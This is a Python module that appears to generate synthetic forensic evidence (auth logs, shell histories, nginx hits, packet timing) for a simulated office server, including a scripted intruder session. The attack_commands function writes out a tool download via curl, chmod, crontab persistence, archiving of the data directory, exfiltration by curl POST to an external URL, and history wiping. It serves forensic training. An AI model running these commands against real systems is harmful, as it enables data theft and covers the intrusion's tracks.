"""Who uses SRV01, and when: the office around the server, declared once.

SRV01's logs (``linux.py``: auth.log, wtmp, btmp, nginx's logs, shell histories) and the LAN tap
(``network.py``: packets inside ``story.CAPTURE_START``..``story.CAPTURE_END``) both render
these items, so an SSH logon, a monitoring probe or an intranet page view shows with the same
client address, source port and second in every artifact, as investigators join them. A log
line's time is when the server wrote it: sshd's "Accepted" comes the authentication delay
after the client's SYN, nginx logs a request when it has written the response.

Who: bob (IT) administers the server from his laptop, the deploy account logs in from the CI
runner, the monitoring host checks sshd and /healthz every five minutes, and the staff (alice
on WS01, bob, the office PCs) use the intranet web app while at their desks. On Tuesday the
attacker's session (S11) uses bob's account from WS01. Times are UTC; ``seed`` draws
everything through ``story.rng``, ``scale`` multiplies the volume.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from forensics.samples import story
from forensics.samples.story import SRV01, WS01, Attack

__all__ = [
    "BOB_LAPTOP",
    "CI_RUNNER",
    "CLIENTS",
    "INTRANET",
    "MONITOR",
    "NAS",
    "OFFICE_PCS",
    "Activity",
    "Command",
    "Desk",
    "Hit",
    "Probe",
    "Session",
    "activity",
]

# --- the hosts around the server ----------------------------------------------------------------

BOB_LAPTOP = "10.20.0.35"  # bob's admin laptop (Ubuntu)
CI_RUNNER = "10.20.0.40"  # builds and deploys the web app (Linux)
NAS = "10.20.0.50"  # takes the nightly copy of /srv/data (Linux)
MONITOR = "10.20.0.60"  # checks sshd and /healthz (Linux)
OFFICE_PCS = tuple(f"10.20.0.{n}" for n in range(41, 60) if n != 50)  # the staff's Windows PCs
CLIENTS = (WS01.ip, BOB_LAPTOP, *OFFICE_PCS)  # the people at their desks
USERS = dict(zip(CLIENTS, ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
                           "ken", "laura", "mike", "nina", "oscar", "paula", "quinn", "rosa", "sam", "tina"),
                 strict=True))  # fmt: skip
INTRANET = f"intranet.{story.DOMAIN}"  # SRV01's nginx serves the office web app under this name
NGINX = "nginx/1.18.0 (Ubuntu)"

# --- the server's own life ----------------------------------------------------------------------

#: bob's ``sudo reboot`` on Monday morning and the kernel's start after it.
REBOOT_CMD = story.START + timedelta(hours=6, minutes=26, seconds=50, milliseconds=412)
BOOT = story.START + timedelta(hours=6, minutes=27, seconds=25, milliseconds=380)
#: The web app's code and static files as the last deploy left them.
APP_DEPLOYED = datetime(2025, 12, 8, 16, 22, 48, tzinfo=UTC)
#: From the shell's ``exit`` to the client's disconnect, which sshd logs.
EXIT_LAG = timedelta(milliseconds=175)


def down(t: datetime) -> bool:
    """Whether SRV01 is off or booting at ``t`` (nobody reaches it, nothing runs)."""
    return REBOOT_CMD <= t < BOOT + timedelta(seconds=12)


def _secs(x: float) -> timedelta:
    return timedelta(seconds=x)


def _at(day: datetime, hms: str, ms: int = 0) -> datetime:
    """``day`` (a UTC midnight) plus a UTC ``HH:MM:SS``."""
    h, m, s = (int(x) for x in hms.split(":"))
    return day + timedelta(hours=h, minutes=m, seconds=s, milliseconds=ms)


# --- the items ----------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Desk:
    """When a client's user is at the desk on one day."""

    arrive: datetime
    lunch: datetime
    back: datetime
    leave: datetime

    def present(self, t: datetime) -> bool:
        """Arrived, not gone home, not at lunch."""
        return self.arrive <= t < self.leave and not self.lunch <= t < self.back


@dataclass(frozen=True, slots=True)
class Command:
    """A shell command: ``time`` is when its Enter reaches SRV01 and the shell runs it."""

    time: datetime
    text: str
    step: str = ""  # the attack step it performs, if any


@dataclass(frozen=True, slots=True)
class Session:
    """One SSH logon: the client's SYN, sshd's verdicts, the shell's commands, the disconnect."""

    user: str
    src: str
    sport: int
    syn: datetime  # the client's SYN
    auth: datetime  # sshd logs "Accepted"
    end: datetime | None  # the client's disconnect; None when the reboot cut the session
    method: str = "publickey"
    failed: tuple[datetime, ...] = ()  # sshd logs "Failed password" (wrong passwords typed)
    sudo: tuple[tuple[datetime, str, str], ...] = ()  # (sudo logs it, cwd, command as logged)
    commands: tuple[Command, ...] = ()  # in order; the last is ``exit`` unless the reboot cut it
    step: str = ""  # "S11" for the attacker's session

    @property
    def attack(self) -> bool:
        return bool(self.step)

    @property
    def until(self) -> datetime:
        """The session's end, or the reboot that cut it."""
        return self.end or REBOOT_CMD


@dataclass(frozen=True, slots=True)
class Probe:
    """The monitor's check_ssh: connect, read sshd's banner, send its own, hang up; sshd logs
    "Connection closed by ... [preauth]" when the FIN arrives (``closed``)."""

    syn: datetime
    sport: int
    closed: datetime


@dataclass(frozen=True, slots=True)
class Hit:
    """One request nginx answered: ``time`` is when it wrote the response and logged the line;
    ``body`` is what it sent after the response head (the logged size)."""

    time: datetime
    client: str
    method: str
    path: str
    status: int
    body: bytes
    referer: str  # "-" when none
    agent: str
    error: str = ""  # its error.log message, if any
    form: bytes = b""  # the request body (a login form)

    @property
    def request(self) -> str:
        return f"{self.method} {self.path} HTTP/1.1"

    @property
    def size(self) -> int:
        return len(self.body)


@dataclass(frozen=True)
class Activity:
    """Everything the office does with SRV01 over the two days, each list in time order."""

    desks: dict[tuple[str, datetime], Desk]  # (client, UTC midnight of the day) -> Desk
    sessions: tuple[Session, ...]
    probes: tuple[Probe, ...]
    hits: tuple[Hit, ...]

    def desk(self, client: str, day: datetime) -> Desk:
        return self.desks[(client, day)]


def activity(plan: Attack, seed: int, scale: int = 1) -> Activity:
    """The office's use of SRV01 for ``seed``; the attacker's session comes from ``plan``."""
    ports = _Ports(story.rng(seed, "office-ports"))
    desks = _desks(story.rng(seed, "office-desks"))
    sessions = _sessions(plan, story.rng(seed, "office-sessions"), scale, ports)
    probes = _probes(story.rng(seed, "office-probes"), scale, ports)
    hits = _hits(story.rng(seed, "office-web"), scale, desks, sessions)
    return Activity(desks, tuple(sessions), tuple(probes), tuple(hits))


class _Ports:
    """Linux ephemeral source ports, never the same twice for one client (so no connection of
    the two days repeats another's address pair)."""

    def __init__(self, r: random.Random) -> None:
        self.r = r
        self.used: set[tuple[str, int]] = set()

    def take(self, client: str) -> int:
        while (client, port := self.r.randint(32768, 60999)) in self.used:
            pass
        self.used.add((client, port))
        return port


# --- people at their desks ----------------------------------------------------------------------


def _desks(r: random.Random) -> dict[tuple[str, datetime], Desk]:
    """Arrivals 08:05-09:10 UTC (alice before her 09:12 e-mail; bob before his early SSH work),
    lunch around noon, home after 16:00 on Monday; on Tuesday nobody leaves before collection."""
    desks = {}
    for day in (story.START, story.ATTACK_DAY):
        for client in CLIENTS:
            arrive = day + timedelta(hours=8, minutes=r.uniform(5, 70))
            if client == WS01.ip:
                arrive = day + timedelta(hours=8, minutes=r.uniform(38, 55))
            elif client == BOB_LAPTOP:
                arrive = day + timedelta(hours=6 if day == story.START else 6.6, minutes=r.uniform(2, 10))
            lunch = day + timedelta(hours=12, minutes=r.uniform(-10, 35))
            back = lunch + timedelta(minutes=r.uniform(25, 55))
            leave = day + timedelta(hours=r.uniform(16, 17.6) if day == story.START else 20)
            if client == BOB_LAPTOP:
                leave = max(leave, day + timedelta(hours=17.3))
            desks[(client, day)] = Desk(arrive, lunch, back, leave)
    return desks


# --- SSH sessions -------------------------------------------------------------------------------

BOB_SUDO = (
    ("/home/bob", "/usr/bin/systemctl status nginx"),
    ("/home/bob", "/usr/bin/journalctl -u webapp --since today"),
    ("/home/bob", "/usr/bin/tail -n 200 /var/log/nginx/error.log"),
    ("/home/bob", "/usr/bin/apt update"),
    ("/home/bob", "/usr/sbin/ufw status verbose"),
    ("/home/bob", "/usr/bin/du -sh /srv/data"),
)
BOB_TYPES = ("uptime", "df -h", "free -m", "ls -la", "w", "systemctl status webapp --no-pager", "ss -tlnp",
             "tail -n 50 /var/log/nginx/access.log", "last -n 10", "journalctl -p warning --since today",
             "cat /etc/os-release", "ls /srv/webapp", "top -bn1 | head -20")  # fmt: skip
#: What deploy runs in each session (also what its .bash_history collects), around its restart.
DEPLOY_RUN = (
    (-30.0, "cd /srv/webapp"),
    (-16.0, "git pull --ff-only"),
    (0.0, "sudo systemctl restart webapp"),
    (11.0, "systemctl status webapp --no-pager"),
    (28.0, "curl -s http://127.0.0.1:8000/healthz"),
)


def _sessions(plan: Attack, r: random.Random, scale: int, ports: _Ports) -> list[Session]:
    """Every SSH logon of the two days: fixed ones the story needs, random routine ones, the attack."""
    mon, tue = story.START, story.ATTACK_DAY
    upgrade = _at(mon, "06:21:12", 412)
    sessions = [
        _session(r, ports, "bob", upgrade, None, sudo=[
            (upgrade + _secs(31.7), "/home/bob", "/usr/bin/apt update"),
            (upgrade + _secs(58.2), "/home/bob", "/usr/bin/apt upgrade"),
            (REBOOT_CMD, "/home/bob", "/usr/sbin/reboot"),
        ]),
        _session(r, ports, "bob", BOOT + _secs(207.6), BOOT + _secs(488.1),
                 sudo=[(BOOT + _secs(251.3), "/home/bob", "/usr/bin/systemctl --failed")]),
        _session(r, ports, "bob", _at(mon, "13:04:51", 77), _at(mon, "13:31:09", 640), method="password", failures=1),
        _session(r, ports, "bob", _at(tue, "07:48:20", 305), _at(tue, "08:09:55", 112), method="password", failures=2),
        # deploy watches the app while the attacker is in: the attacker's session gets pts/1.
        _session(r, ports, "deploy", _at(tue, "10:58:40", 231), _at(tue, "11:31:12", 958),
                 sudo=[(_at(tue, "11:29:48", 410), "/srv/webapp", "/usr/bin/systemctl restart webapp")]),
        _attack_session(plan),
    ]  # fmt: skip
    windows = [  # (user, sessions per scale, earliest and latest logon UTC); none overlaps the attack
        ("bob", 2, _at(mon, "07:00:00"), _at(mon, "16:30:00")),
        ("bob", 1, _at(tue, "07:00:00"), _at(tue, "10:15:00")),
        ("deploy", 2, _at(mon, "08:00:00"), _at(mon, "16:00:00")),
        ("deploy", 1, _at(tue, "08:15:00"), _at(tue, "10:20:00")),
        ("deploy", 1, _at(tue, "12:00:00"), story.COLLECTED - timedelta(minutes=45)),
    ]
    for user, n, lo, hi in windows:  # one session per equal slot, so one user's sessions rarely overlap
        slot = (hi - lo) / (n * scale)
        for i in range(n * scale):
            auth = lo + slot * i + _secs(r.uniform(0, slot.total_seconds()))
            length = r.uniform(240, 2100) if user == "bob" else r.uniform(150, 600)
            sudo = []
            if user == "deploy":
                restart = auth + _secs(r.uniform(40, length - 60))
                sudo.append((restart, "/srv/webapp", "/usr/bin/systemctl restart webapp"))
            else:
                for _ in range(r.choice((0, 1, 1, 2))):
                    cwd, cmd = r.choice(BOB_SUDO)
                    sudo.append((auth + _secs(r.uniform(20, length - 20)), cwd, cmd))
            sessions.append(_session(r, ports, user, auth, auth + _secs(length), sudo=sorted(sudo)))
    return sorted(sessions, key=lambda s: s.syn)


def _session(
    r: random.Random, ports: _Ports, user: str, auth: datetime, end: datetime | None, *,
    method: str = "publickey", failures: int = 0, sudo: list[tuple[datetime, str, str]] | None = None,
) -> Session:  # fmt: skip
    """bob's or deploy's logon accepted at ``auth``: the SYN before it (a key is quick; a password
    is typed, each wrong one costs sshd's 2.7 s), and the commands the user runs."""
    src = BOB_LAPTOP if user == "bob" else CI_RUNNER
    failed = tuple(auth - _secs(2.7 * (failures - i)) for i in range(failures))
    if method == "password":
        first = failed[0] - _secs(0.9) if failed else auth - _secs(0.06)
        syn = first - _secs(r.uniform(2.3, 5.5))
    else:
        syn = auth - _secs(r.uniform(0.25, 0.8))
    sudo = sudo or []
    commands = _commands(r, user, auth, end, sudo)
    return Session(user, src, ports.take(src), syn, auth, end, method, failed, tuple(sudo), tuple(commands))


def _typed(cmd: str) -> str:
    """What the user typed for a sudo command sudo logs by its full path."""
    return "sudo " + cmd.removeprefix("/usr/bin/").removeprefix("/usr/sbin/")


def _commands(
    r: random.Random, user: str, auth: datetime, end: datetime | None, sudo: list[tuple[datetime, str, str]]
) -> list[Command]:
    """A session's shell commands: its sudo commands (sudo logs them a few ms after Enter), the
    user's other work (deploy's fixed routine; bob's look around every 20-90 s), then ``exit``."""
    runs = [Command(t - _secs(r.uniform(0.012, 0.045)), _typed(cmd)) for t, _, cmd in sudo]
    if user == "deploy":
        for t, _, _ in sudo:
            runs += [Command(t + _secs(dt + r.uniform(-2, 2)), text) for dt, text in DEPLOY_RUN if dt]
    else:
        t, stop = auth + _secs(r.uniform(6, 25)), (end or REBOOT_CMD) - _secs(8)
        while t < stop:
            if all(abs((t - c.time).total_seconds()) > 12 for c in runs):
                runs.append(Command(t, r.choice(BOB_TYPES)))
            t += _secs(r.uniform(20, 90))
    runs.sort(key=lambda c: c.time)
    if end is not None:
        runs.append(Command(end - EXIT_LAG, "exit"))
    return runs


def _attack_session(plan: Attack) -> Session:
    """bob's stolen password from WS01 (S11): accepted ``story.SSH_AUTH_DELAY`` after the SYN,
    the steps S12..S16 typed or pasted, the disconnect ``story.SSH_LOGOUT_AFTER`` after S16."""
    s11 = next(c for c in plan.connections if c.step == "S11")
    end = plan.step("S16").time + story.SSH_LOGOUT_AFTER
    sudo = ((plan.step("S14").time, "/home/bob", f"/usr/bin/tar czf {story.ARCHIVE_PATH} {story.DATA_DIR}"),)
    return Session("bob", WS01.ip, s11.sport, s11.time, s11.time + story.SSH_AUTH_DELAY, end, "password", (),
                   sudo, attack_commands(plan), "S11")  # fmt: skip


#: How long before a step's first visible effect (its log line, connection or look-up) its
#: command reaches the shell: the program's start-up.
_STEP_LEAD = {"S12": 0.031, "S13": 0.024, "S14": 0.017, "S15": 0.012, "S16": 0.003}


def attack_commands(plan: Attack) -> tuple[Command, ...]:
    """The attacker's shell session on SRV01, in order (what bash wrote back to bob's history)."""
    s = plan.step

    def run(step: str) -> datetime:
        effects = [s(step).time] + [
            lk.time for lk in plan.lookups if lk.step == step and lk.client == SRV01.ip
        ]
        return min(effects) - _secs(_STEP_LEAD[step])

    t11, t12, t15 = s("S11").time, run("S12"), run("S15")
    end = s("S16").time + story.SSH_LOGOUT_AFTER
    return (
        Command(t11 + _secs(19.4), "id"),
        Command(t11 + _secs(24.1), "uname -a"),
        Command(t11 + _secs(39.8), f"ls -la {story.DATA_DIR}"),
        Command(t12, f"curl -s {story.TOOL_URL} -o {story.TOOL_PATH}", "S12"),
        Command(t12 + _secs(6.2), f"chmod +x {story.TOOL_PATH}"),
        Command(run("S13"), f'(crontab -l 2>/dev/null; echo "{story.CRON_LINE}") | crontab -', "S13"),
        Command(run("S14"), f"sudo tar czf {story.ARCHIVE_PATH} {story.DATA_DIR}", "S14"),
        Command(t15, f"curl -s -X POST --data-binary @{story.ARCHIVE_PATH} {story.EXFIL_URL}", "S15"),
        Command(t15 + _secs(93.1), f"rm -f {story.ARCHIVE_PATH}"),
        Command(run("S16"), "cat /dev/null > ~/.bash_history", "S16"),
        Command(end - EXIT_LAG, "exit"),
    )


# --- the monitor's sshd checks ------------------------------------------------------------------


def _probes(r: random.Random, scale: int, ports: _Ports) -> list[Probe]:
    """check_ssh every five minutes (more often at scale) while the server is up."""
    step, probes = 300 / scale, []
    t = story.START + _secs(r.uniform(0, step))
    while t < story.COLLECTED:
        if not down(t):
            probes.append(Probe(t, ports.take(MONITOR), t + _secs(r.uniform(0.006, 0.03))))
        t += _secs(step + r.uniform(-0.4, 0.4))
    return probes


# --- the intranet web app -----------------------------------------------------------------------

AGENTS = {
    WS01.ip: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0",
    BOB_LAPTOP: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/148.0",
}
WIN_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 "
    "Safari/537.36 Edg/145.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:148.0) Gecko/20100101 Firefox/148.0",
)
MONITOR_UA = "check_http/v2.3.3 (monitoring-plugins 2.3.3)"
CI_UA = "curl/7.81.0"
#: Page views per hour at the desk, at scale 1.
RATE = {WS01.ip: 5.0, BOB_LAPTOP: 2.0}
RATE_OTHERS = 3.5
_CUSTOMERS = ("Northwind", "Contoso", "Fabrikam", "Tailspin", "Adventure Works", "Litware", "Wingtip")
_PAGES = (  # (weight, page, its API call)
    (3, "/", "/api/notifications"),
    (4, "/invoices?page={n}", "/api/invoices?page={n}&per_page=50"),
    (3, "/invoices/INV-2026-{inv:04d}", "/api/invoices/INV-2026-{inv:04d}"),
    (2, "/customers", "/api/customers?active=1"),
    (1, "/reports/monthly?month=2026-02", "/api/reports/monthly?month=2026-02"),
)


def agent(client: str) -> str:
    """The browser a client's user runs."""
    return AGENTS.get(client, WIN_AGENTS[int(client.rsplit(".", 1)[1]) % 3])


def _error_page(status: str) -> bytes:
    """nginx's own error page, as Ubuntu's nginx 1.18 sends it."""
    return (f"<html>\r\n<head><title>{status}</title></head>\r\n<body>\r\n<center><h1>{status}</h1></center>\r\n"
            f"<hr><center>{NGINX}</center>\r\n</body>\r\n</html>\r\n").encode()  # fmt: skip


#: Werkzeug's body of a redirect to "/" (after the login form).
REDIRECT = (
    b"<!doctype html>\n<html lang=en>\n<title>Redirecting...</title>\n<h1>Redirecting...</h1>\n<p>You should be "
    b'redirected automatically to the target URL: <a href="/">/</a>. If not, click the link.\n'
)
HEALTHZ = b'{"status":"ok"}'
NOT_FOUND, BAD_GATEWAY = _error_page("404 Not Found"), _error_page("502 Bad Gateway")


def _css() -> bytes:
    """The app's stylesheet."""
    rules = [("body", "margin:0;font:14px/1.4 system-ui,sans-serif;color:#222;background:#f6f7f9"),
             ("nav", "display:flex;gap:1.5em;padding:.8em 1.5em;background:#1f3a5f"),
             ("nav a", "color:#fff;text-decoration:none;font-weight:600"), ("nav a:hover", "text-decoration:underline"),
             ("main", "max-width:1100px;margin:1.5em auto;padding:0 1em"),
             ("table", "width:100%;border-collapse:collapse;background:#fff"),
             ("th,td", "padding:.45em .7em;border-bottom:1px solid #e3e6ea;text-align:left"),
             ("th", "background:#eef1f5;font-weight:600"), ("td:last-child", "text-align:right;font-variant-numeric:tabular-nums"),
             ("tr:hover td", "background:#f9fbff"), (".badge", "display:inline-block;padding:0 .5em;border-radius:8px;font-size:12px"),
             (".badge.open", "background:#fff4d6;color:#8a6100"), (".badge.paid", "background:#dff5e3;color:#1d6b31"),
             (".pager", "display:flex;justify-content:flex-end;gap:.4em;margin:1em 0"),
             (".pager a", "padding:.2em .6em;border:1px solid #c8ced6;border-radius:4px;color:#1f3a5f"),
             (".notice", "padding:.8em 1em;margin-bottom:1em;border-left:4px solid #1f3a5f;background:#fff"),
             ("form.login", "max-width:320px;margin:4em auto;padding:2em;background:#fff;border-radius:6px"),
             ("form.login input", "display:block;width:100%;margin:.4em 0 1em;padding:.5em"),
             ("@media print", "nav,.pager{display:none}")]  # fmt: skip
    return "".join(f"{sel}{{{body}}}\n" for sel, body in rules).encode()


def _js() -> bytes:
    """The app's script: notifications badge, table sorting, pager."""
    return b"""'use strict';
(function () {
  function $(sel, root) { return (root || document).querySelector(sel); }
  function $all(sel, root) { return Array.prototype.slice.call((root || document).querySelectorAll(sel)); }
  function api(path) {
    return fetch(path, { credentials: 'same-origin', headers: { Accept: 'application/json' } })
      .then(function (r) { if (!r.ok) { throw new Error(r.status + ' ' + path); } return r.json(); });
  }
  function money(v) { return Number(v).toLocaleString('de-DE', { style: 'currency', currency: 'EUR' }); }
  function row(item) {
    var tr = document.createElement('tr');
    tr.innerHTML = '<td><a href="/invoices/' + item.id + '">' + item.id + '</a></td><td>' + item.customer +
      '</td><td><span class="badge ' + item.status + '">' + item.status + '</span></td><td>' + money(item.amount) + '</td>';
    return tr;
  }
  function fill(table, items) {
    var body = $('tbody', table);
    body.textContent = '';
    items.forEach(function (item) { body.appendChild(row(item)); });
  }
  function sortable(table) {
    $all('th', table).forEach(function (th, col) {
      th.addEventListener('click', function () {
        var rows = $all('tbody tr', table), asc = th.dataset.dir !== 'asc';
        rows.sort(function (a, b) {
          var x = a.cells[col].textContent, y = b.cells[col].textContent;
          return (asc ? 1 : -1) * x.localeCompare(y, 'de', { numeric: true });
        });
        rows.forEach(function (r) { r.parentNode.appendChild(r); });
        th.dataset.dir = asc ? 'asc' : 'desc';
      });
    });
  }
  document.addEventListener('DOMContentLoaded', function () {
    var table = $('table[data-api]');
    if (table) {
      sortable(table);
      api(table.dataset.api).then(function (data) { fill(table, data.items); }).catch(console.error);
    } else {
      api('/api/notifications').then(function (data) {
        var n = $('.notice');
        if (n && data.items.length) { n.textContent = data.items.length + ' invoices need attention'; }
      }).catch(console.error);
    }
  });
})();
"""


#: The app's static files: path -> (content, MIME type); nginx serves them from /srv/webapp.
ASSETS = {"/static/css/app.css": (_css(), "text/css"), "/static/js/app.js": (_js(), "application/javascript")}


def _rows(r: random.Random, n: int) -> str:
    """Invoice table rows of the app's HTML pages."""
    return "".join(
        f"<tr><td>INV-2026-{r.randint(0, 299):04d}</td><td>{r.choice(_CUSTOMERS)}</td>"
        f"<td>{r.randint(200, 90_000)}.{r.randint(0, 99):02d}</td></tr>"
        for _ in range(n)
    )


def _html(r: random.Random, api: str) -> bytes:
    """An HTML page of the app (~3-7 KB)."""
    return (
        '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Office app</title>'
        '<link rel="stylesheet" href="/static/css/app.css"></head><body><nav><a href="/">Home</a> '
        '<a href="/invoices">Invoices</a> <a href="/customers">Customers</a> <a href="/reports/monthly">Reports'
        f'</a></nav><main><table data-api="{api}"><tbody>{_rows(r, r.randint(40, 90))}</tbody></table></main>'
        '<script src="/static/js/app.js"></script></body></html>'
    ).encode()


def _json(r: random.Random) -> bytes:
    """The app's API answer (~0.5-4 KB)."""
    items = ",".join(
        f'{{"id":"INV-2026-{r.randint(0, 299):04d}","customer":"{r.choice(_CUSTOMERS)}",'
        f'"amount":"{r.randint(200, 90_000)}.{r.randint(0, 99):02d}","status":"{r.choice(("open", "paid"))}"}}'
        for _ in range(r.randint(6, 45))
    )
    return f'{{"items":[{items}]}}\n'.encode()


def _page_view(r: random.Random, t: datetime, client: str, fresh: bool) -> list[Hit]:
    """A person opening one page of the app: the page, its stylesheet and script (downloaded the
    first time of the day, else revalidated: 304), sometimes a missing hi-DPI logo, its API call;
    the first view of the day follows the login form."""
    base, ua = f"http://{INTRANET}", agent(client)
    _, page, api = r.choices(_PAGES, [w for w, _, _ in _PAGES])[0]
    n, inv = r.randint(1, 6), r.randint(0, 299)
    page, api = page.format(n=n, inv=inv), api.format(n=n, inv=inv)
    hits = []
    if fresh:
        form = f"username={USERS[client]}&password={r.getrandbits(60):015x}".encode()
        hits.append(Hit(t - _secs(r.uniform(6, 12)), client, "POST", "/login", 302, REDIRECT, f"{base}/login", ua,
                        form=form))  # fmt: skip
    hits.append(Hit(t, client, "GET", page, 200, _html(r, api), f"{base}/", ua))
    for path, (data, _) in ASSETS.items():
        hits.append(Hit(t + _secs(r.uniform(0.03, 0.07)), client, "GET", path, 200 if fresh else 304,
                        data if fresh else b"", base + page, ua))  # fmt: skip
    if fresh and client != BOB_LAPTOP and r.random() < 0.3:
        error = 'open() "/srv/webapp/static/img/logo@2x.png" failed (2: No such file or directory)'
        hits.append(Hit(t + _secs(r.uniform(0.08, 0.11)), client, "GET", "/static/img/logo@2x.png", 404, NOT_FOUND,
                        base + page, ua, error))  # fmt: skip
    hits.append(Hit(t + _secs(r.uniform(0.18, 0.3)), client, "GET", api, 200, _json(r), base + page, ua))
    return hits


def _hits(
    r: random.Random, scale: int, desks: dict[tuple[str, datetime], Desk], sessions: list[Session]
) -> list[Hit]:
    """nginx's requests over both days: people at their desks, the monitor's health checks, and
    around each deploy's restart a 502 for someone's page and the CI runner's check."""
    hits: list[Hit] = []
    for (client, _), desk in desks.items():
        rate = RATE.get(client, RATE_OTHERS) * scale / 3600
        t, fresh = desk.arrive + _secs(r.expovariate(rate)), True
        while t < min(desk.leave, story.COLLECTED):
            if desk.present(t) and not down(t):
                hits.extend(_page_view(r, t, client, fresh))
                fresh = False
            t += _secs(r.expovariate(rate) + 15)
    t = story.START + _secs(r.uniform(0, 300))
    while t < story.COLLECTED:
        if not down(t):
            hits.append(Hit(t, MONITOR, "GET", "/healthz", 200, HEALTHZ, "-", MONITOR_UA))
        t += _secs(300 / scale + r.uniform(-0.4, 0.4))
    for t in sorted(t for s in sessions for t, _, cmd in s.sudo if cmd.endswith("restart webapp")):
        client = r.choice(OFFICE_PCS)
        hits.append(Hit(t + _secs(0.4), client, "GET", "/api/notifications", 502, BAD_GATEWAY, f"http://{INTRANET}/",
                        agent(client), "connect() failed (111: Connection refused) while connecting to upstream"))  # fmt: skip
        hits.append(Hit(t + _secs(4.2), CI_RUNNER, "GET", "/healthz", 200, HEALTHZ, "-", CI_UA))
    return [h for h in sorted(hits, key=lambda h: h.time) if h.time < story.COLLECTED]
